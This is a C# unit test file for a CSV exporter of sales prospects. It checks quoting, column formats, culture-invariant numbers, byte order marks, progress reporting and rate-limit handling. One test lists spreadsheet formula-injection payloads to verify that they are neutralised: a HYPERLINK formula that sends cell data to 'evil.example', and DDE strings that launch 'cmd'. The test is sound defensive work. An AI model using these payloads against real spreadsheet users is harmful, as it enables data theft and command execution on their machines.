using System.Globalization;
using System.Text;
using CsvHelper;
using InboxSdk.Sandbox;
using Microsoft.Extensions.Logging;
using Microsoft.Extensions.Time.Testing;

namespace InboxSdk.Csv.Tests;

public class ProspectCsvExporterTests
{
    private static readonly Prospect John = new()
    {
        Id = "prospect_abc123",
        PlatformId = "1234567890",
        Username = "johndoe",
        Name = "John \"JD\" Doe",
        FollowerCount = 5420,
        IsVerified = true,
        Tags = [new() { Id = "t1", Name = "Hot Lead" }, new() { Id = "t2", Name = "Enterprise" }],
        Status = new() { Id = "s1", Name = "Qualified" },
        Notes = "Asked for a demo,\nthen for a price",
    };

    [Fact]
    public async Task ExportAsync_GuidesColumns_AreInItsOrderAndForm() => (await ExportAsync([John, new() { Id = "p2" }])).Should().Be(
        "prospectId,platformId,username,name,followers,verified,tags,status,notes\r\n"
        + "prospect_abc123,1234567890,johndoe,\"John \"\"JD\"\" Doe\",5420,true,\"Hot Lead; Enterprise\",Qualified,\"Asked for a demo,\nthen for a price\"\r\n"
        + "p2,,,,0,false,,,\r\n");

    [Theory]
    [InlineData(InboxApiVersion.V1)]
    [InlineData(InboxApiVersion.V2)]
    public async Task ExportAsync_Sandbox_WritesEveryProspectOnce(InboxApiVersion version)
    {
        await using var sandbox = await InboxSandbox.StartAsync(new() { ProspectCount = 300 });
        using var inbox = sandbox.CreateClient(options => (options.ApiVersion, options.RateLimit.IsEnabled) = (version, false));
        using var stream = new MemoryStream();

        var rows = await new ProspectCsvExporter().ExportAsync(inbox.Prospects.ListAsync(), stream);

        var read = Read(stream.ToArray());
        var ids = sandbox.State.Threads.Select(thread => thread.ProspectId).Distinct().ToList();
        ids.Count.Should().BeLessThan(sandbox.State.Threads.Count, "some prospects have two threads");
        rows.RowCount.Should().Be(ids.Count);
        read[1..].Select(row => sandbox.State.FindProspect(row[0])?.Id).Should().BeEquivalentTo(ids);
    }

    [Theory]
    [InlineData("=1+1")]
    [InlineData("=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")")]
    [InlineData("=cmd|' /C calc'!A0")]
    [InlineData("+1+1")]
    [InlineData("-2+3+cmd|' /C calc'!A0")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    [InlineData("\n=1+1")]
    [InlineData("\uFF1D1+1")]
    [InlineData("\uFF0B1")]
    [InlineData("\uFF0D1")]
    [InlineData("\uFF20SUM(1)")]
    [InlineData("=1+\",=2+2")]
    public async Task ExportAsync_Formula_StartsHarmlessAndReadsBackWithoutItsApostrophe(string payload)
    {
        var prospect = new Prospect { Id = "p", Username = payload, Name = payload, Notes = payload, Tags = [new() { Name = payload }], Status = new() { Name = payload } };

        var row = Read(Encoding.UTF8.GetBytes(await ExportAsync([prospect])))[1];

        row.Should().HaveCount(9);
        foreach (var field in new[] { row[2], row[3], row[6], row[7], row[8] })
            field.Should().Be("'" + payload);
        Read(Encoding.UTF8.GetBytes(await ExportAsync([prospect], new() { IsRaw = true })))[1][8].Should().Be(payload);
    }

    [Theory]
    [InlineData("de-DE")]
    [InlineData("tr-TR")]
    [InlineData("ar-SA")]
    public async Task ExportAsync_OtherCulture_WritesInvariantNumbers(string culture)
    {
        CultureInfo.CurrentCulture = new CultureInfo(culture);
        var options = new CsvExportOptions<Prospect> { Columns = [ProspectColumn.Valuation, ProspectColumn.Followers, ExportColumn.Number<Prospect>("delta", _ => -5.5m)] };

        (await ExportAsync([new() { Valuation = 75000.25m, FollowerCount = 1_234_567 }, new()], options))
            .Should().Be("valuation,followers,delta\r\n75000.25,1234567,-5.5\r\n,0,-5.5\r\n", "a number is no formula");
    }

    [Theory]
    [InlineData(CsvExportFormat.Plain, false)]
    [InlineData(CsvExportFormat.Excel, true)]
    public async Task ExportAsync_Format_DecidesTheByteOrderMark(CsvExportFormat format, bool hasMark)
    {
        using var stream = new MemoryStream();
        await new ProspectCsvExporter(new() { Format = format }).ExportAsync(InboxPageable.FromItems<Prospect>([new() { Name = "Zoë" }]), stream);

        stream.ToArray().AsSpan().StartsWith(new byte[] { 0xEF, 0xBB, 0xBF }).Should().Be(hasMark);
        stream.CanWrite.Should().BeTrue("it stays open");
        Encoding.UTF8.GetString(stream.ToArray()).Should().Contain("Zoë");
    }

    [Fact]
    public async Task ExportAsync_ExcelFormat_QuotesEveryTextAndNothingElse()
    {
        var options = new CsvExportOptions<Prospect> { Format = CsvExportFormat.Excel, Columns = [.. ProspectColumn.Defaults, ProspectColumn.Valuation] };

        (await ExportAsync([John with { Valuation = 75000.25m }, new() { Id = "p2" }], options)).Should().EndWith(
            "\r\n\"prospect_abc123\",\"1234567890\",\"johndoe\",\"John \"\"JD\"\" Doe\",5420,true,\"Hot Lead; Enterprise\",\"Qualified\",\"Asked for a demo,\nthen for a price\",75000.25\r\n"
            + "\"p2\",,,,0,false,,,,\r\n", "an option of the import dialog keeps quoted text as text");
    }

    [Theory]
    [InlineData(CsvExportFormat.Plain, false, "a\uFFFDb")]
    [InlineData(CsvExportFormat.Excel, false, "a\uFFFDb")]
    [InlineData(CsvExportFormat.Plain, true, "a\0b")]
    [InlineData(CsvExportFormat.Excel, true, "a\0b")]
    public async Task ExportAsync_NullCharacter_IsReplacedUnlessRaw(CsvExportFormat format, bool isRaw, string expected) =>
        Read(Encoding.UTF8.GetBytes(await ExportAsync([new() { Name = "a\0b" }], new() { Format = format, IsRaw = isRaw })))[1][3].Should().Be(expected);

    [Fact]
    public async Task ExportAsync_ColumnsOfEveryType_AreWrittenAsDocumented()
    {
        var at = new DateTimeOffset(2026, 1, 1, 12, 0, 0, 5, TimeSpan.FromHours(2));
        var options = new CsvExportOptions<Prospect>
        {
            Columns =
            [
                ExportColumn.Timestamp<Prospect>("at", prospect => prospect.Id.Length > 0 ? at : null), ExportColumn.Boolean<Prospect>("done", prospect => prospect.IsDone),
                ExportColumn.Number<Prospect>("value", prospect => prospect.Valuation),
            ],
        };

        (await ExportAsync([John with { IsDone = true, Valuation = 1.50m }, new()], options)).Should().Be("at,done,value\r\n2026-01-01T10:00:00.005Z,true,1.50\r\n,,\r\n");
    }

    [Fact]
    public async Task ExportAsync_NoProspects_WritesTheFirstLine() =>
        (await ExportAsync([])).Should().Be("prospectId,platformId,username,name,followers,verified,tags,status,notes\r\n");

    [Fact]
    public async Task ExportAsync_OwnColumns_ShowWhatTheyAreTold()
    {
        var options = new CsvExportOptions<Prospect>
        {
            Columns =
            [
                ProspectColumn.Username, ProspectColumn.Platform, ProspectColumn.Bio, ProspectColumn.Location, ProspectColumn.Website,
                ExportColumn.Number<Prospect>("score", prospect => LeadScorer.Default.Score(prospect).Points),
                ExportColumn.Text<Prospect>("assigned to", prospect => prospect.AssigneeId),
            ],
        };

        (await ExportAsync([John with { Platform = Platform.X, Bio = " CEO ", Location = "Berlin", WebsiteUrl = "https://a.example" }], options))
            .Should().Be("username,platform,bio,location,website,score,assigned to\r\njohndoe,x, CEO ,Berlin,https://a.example,60,\r\n");
    }

    [Fact]
    public void Create_WrongOptions_SaysWhatToDo()
    {
        CsvExportOptions<Prospect>[] wrong =
        [
            new() { Columns = [] }, new() { Columns = [null!] }, new() { Columns = [ProspectColumn.Notes, ExportColumn.Text<Prospect>("notes", _ => null)] },
            new() { Format = (CsvExportFormat)7 }, new() { TimeProvider = null! },
        ];

        foreach (var options in wrong)
            FluentActions.Invoking(() => new ProspectCsvExporter(options)).Should().Throw<ArgumentException>().WithMessage("*ExportOptions.*");
    }

    [Fact]
    public async Task ExportAsync_Progress_IsToldAtMostTenTimesASecondAndAtTheEnd()
    {
        var clock = new FakeTimeProvider();
        var reports = new RowCounts();

        await new ProspectCsvExporter(new() { TimeProvider = clock }).ExportAsync(TickAsync(), TextWriter.Null, reports);

        // 1 ms a row.
        reports.Should().Equal(1, 101, 201, 301, 401, 501, 601, 701, 801, 901, 1000);

        async IAsyncEnumerable<Prospect> TickAsync()
        {
            for (var i = 0; i < 1000; i++)
            {
                clock.Advance(TimeSpan.FromMilliseconds(1));
                yield return John;
            }

            await Task.CompletedTask;
        }
    }

    [Fact]
    public async Task ExportAsync_CallbackThrows_IsLoggedOnceAndTheExportIsWhole()
    {
        var clock = new FakeTimeProvider();
        var log = new FakeLogger();
        await using var writer = new StringWriter(CultureInfo.InvariantCulture);

        var rows = await new ProspectCsvExporter(new() { TimeProvider = clock, Logger = log }).ExportAsync(Slow(), writer, new Failing());

        rows.RowCount.Should().Be(200);
        writer.ToString().Split("\r\n", StringSplitOptions.RemoveEmptyEntries).Should().HaveCount(201);
        log.Should().ContainSingle().Which.Should().BeOfType<InvalidOperationException>();

        async IAsyncEnumerable<Prospect> Slow()
        {
            for (var i = 0; i < 200; i++)
            {
                clock.Advance(TimeSpan.FromMilliseconds(100));
                yield return John;
            }

            await Task.CompletedTask;
        }
    }

    [Fact]
    public async Task ExportAsync_EnumerationWaitsForTheRateLimit_ReportsUntilWhen()
    {
        var clock = new FakeTimeProvider();
        var until = clock.GetUtcNow().AddMinutes(1);
        var reports = new List<ExportProgress>();
        await using var sandbox = await InboxSandbox.StartAsync(new() { ProspectCount = 250 });
        using var inbox = sandbox.CreateClient(options =>
        {
            options.TimeProvider = clock;
            options.RateLimit.Requests = [new() { Limit = 2, Length = TimeSpan.FromMinutes(1) }];
        });

        var rows = await new ProspectCsvExporter(new() { TimeProvider = clock }).ExportAsync(inbox.Prospects.ListAsync(), TextWriter.Null, new Passing(clock, reports));

        rows.RowCount.Should().Be(250);
        reports.Should().ContainSingle(progress => progress.WaitingUntil == until).Which.RowCount.Should().BeLessThan(250);
        reports[^1].Should().Be(new ExportProgress { RowCount = 250 });
    }

    private sealed class Passing(FakeTimeProvider clock, List<ExportProgress> reports) : IProgress<ExportProgress>
    {
        public void Report(ExportProgress value)
        {
            reports.Add(value);
            // After the wait has begun, which is just after it is reported.
            if (value.WaitingUntil is not null)
                Task.Run(() => clock.Advance(TimeSpan.FromMinutes(1)));
        }
    }

    private sealed class Failing : IProgress<ExportProgress>
    {
        public void Report(ExportProgress value) => throw new InvalidOperationException("The application's own.");
    }

    private sealed class FakeLogger : List<Exception?>, ILogger
    {
        public IDisposable? BeginScope<TState>(TState state)
            where TState : notnull => null;

        public bool IsEnabled(LogLevel logLevel) => true;

        public void Log<TState>(LogLevel logLevel, EventId eventId, TState state, Exception? exception, Func<TState, Exception?, string> formatter) => Add(exception);
    }

    internal static async Task<string> ExportAsync(Prospect[] prospects, CsvExportOptions<Prospect>? options = null)
    {
        await using var writer = new StringWriter(CultureInfo.InvariantCulture);
        await new ProspectCsvExporter(options).ExportAsync(InboxPageable.FromItems(prospects), writer);
        return writer.ToString();
    }

    internal static List<string[]> Read(byte[] csv)
    {
        using var reader = CsvReader.Create(csv, CsvReaderOptions.Default with { HasHeader = false });
        var rows = new List<string[]>();
        while (reader.Read())
            rows.Add([.. Enumerable.Range(0, reader.FieldCount).Select(reader.GetString)]);
        return rows;
    }

    private sealed class RowCounts : List<long>, IProgress<ExportProgress>
    {
        public void Report(ExportProgress value) => Add(value.RowCount);
    }
}
